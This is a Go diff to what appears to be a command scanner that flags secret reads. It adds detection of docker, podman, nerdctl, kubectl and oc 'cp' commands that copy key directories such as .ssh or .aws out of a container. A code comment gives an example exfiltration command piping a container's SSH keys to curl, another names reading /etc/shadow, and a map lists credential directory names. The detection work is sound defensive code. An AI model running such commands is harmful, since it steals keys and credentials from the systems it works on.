@@ -520,6 +520,9 @@ func moreSecrets(c *cmdline.Command, args []string, env *CommandEnv) []string {
 			}
 		}
 	}
+	if from := containerCopySource(prog, env.Positional); from != "" && (sensitivePath(homeForm(cleanPath(from))) || secretDir(cleanPath(from)) || keyDirNames[path.Base(cleanPath(from))]) {
+		out = append(out, from) // docker cp dev:/root/.ssh - | curl -T - URL: the container's keys
+	}
 	if len(c.Wrappers) > 0 && secretPath(c.Path) {
 		// a launcher's option value taken for the command (ltrace -F /etc/shadow CMD)
 		if w := c.Wrappers[len(c.Wrappers)-1]; !secretUsers.has(programName(w.Name)) {
@@ -724,3 +727,26 @@ func fromEarlierFiles(line *cmdline.Line, c *cmdline.Command, args []string, gs 
 	}
 	return secrets, writes
 }
+
+// containerCopySource is the path inside a container or pod that docker,
+// podman or nerdctl cp CTR:PATH DEST, or kubectl and oc cp POD:PATH DEST,
+// copies out, or "".
+func containerCopySource(prog string, pos []string) string {
+	switch prog {
+	case "docker", "podman", "nerdctl", "kubectl", "oc":
+	default:
+		return ""
+	}
+	if len(pos) != 3 || pos[0] != "cp" {
+		return ""
+	}
+	_, from, ok := strings.Cut(pos[1], ":")
+	if !ok || !strings.HasPrefix(from, "/") && !strings.HasPrefix(from, "~") {
+		return ""
+	}
+	return from
+}
+
+// keyDirNames are the names of directories that hold keys and credentials
+// whole, wherever the home (a container's /home/u/.ssh).
+var keyDirNames = map[string]bool{".ssh": true, ".aws": true, ".gnupg": true, ".kube": true, ".docker": true}
